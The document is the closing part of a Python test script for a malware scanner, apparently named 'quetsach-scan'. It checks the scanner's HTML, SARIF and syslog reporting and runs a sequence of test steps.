    check("Không phát hiện mã độc" in clean.read_text("utf-8"), "nothing found")
    m.scan("--html", m.folder / "none" / "x.html", m.here, status=2)


def sarif(m):
    path = m.folder / "report.sarif"
    m.scan("--quiet", "--sarif", path, "--max-size", "1M", m.here, status=1)
    log = json.loads(path.read_text("utf-8"))
    same((log["version"], len(log["runs"])), ("2.1.0", 1), "SARIF")
    run = log["runs"][0]
    same(run["tool"]["driver"]["name"], "quetsach-scan", "driver")
    levels = {r["ruleId"]: r["level"] for r in run["results"]}
    same(levels, {"quetsach/QS_Eicar": "error", "quetsach/QS_Planted": "error",
        "public/Public_Planted": "warning"}, "levels")
    check(all(r["message"]["text"] for r in run["results"]), "messages")
    check(run["invocations"][0]["executionSuccessful"], "invocation")
    m.scan("--quiet", "--sarif", path, "--max-size", "10", m.here / "maybe.txt", status=3)
    told = json.loads(path.read_text("utf-8"))["runs"][0]["invocations"][0]
    same([n["descriptor"]["id"] for n in told["toolExecutionNotifications"]], ["size"], "unscanned")


def system_log(m):
    """Where this machine has no log of its own we are it for a moment."""
    if os.geteuid() != 0 or os.path.exists("/dev/log"):
        print("no /dev/log to take: --syslog not tried")
        return
    log = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    log.bind("/dev/log")
    log.settimeout(0.5)
    lines, child = [], subprocess.Popen(m.command("--quiet", "--syslog", m.here, m.folder / "hostile"),
        stdout=subprocess.DEVNULL)
    try:
        while True:
            ended = child.poll() is not None
            try:
                lines.append(log.recv(65536))
            except TimeoutError:
                if ended:
                    break
    finally:
        log.close()
        os.unlink("/dev/log")
    same(child.returncode, 1, "status with --syslog")
    findings = [line for line in lines if b"finding outcome=" in line]
    same(len(findings), 3 + len(HOSTILE), "a line for each finding")
    check(any(b'outcome=infected path="' in line and b"quetsach:QS_Eicar" in line
        for line in findings), f"what was found: {findings}")
    same([c for line in lines for c in line.rstrip(b"\n\0") if c < 32], [], "one line each")
    check(b"summary files=" in lines[-1], "the summary")


def main():
    machine = Machine()
    machine.pack("one.pack")
    for step in (outcomes_and_lines, other_disk, nonsense, whole_machine, whom_it_talks_to, time_is_up, time_is_up_quick, few_open_files, pairs, hostile_names, only_our_packs, never_backwards,
            kept_engine, interrupted_while_preparing, known_verdicts, own_things, languages, on_screen,
            progress_and_interruption, report_for_people, sarif, system_log):
        step(machine)
        print(f"{step.__name__}: fine")


main()
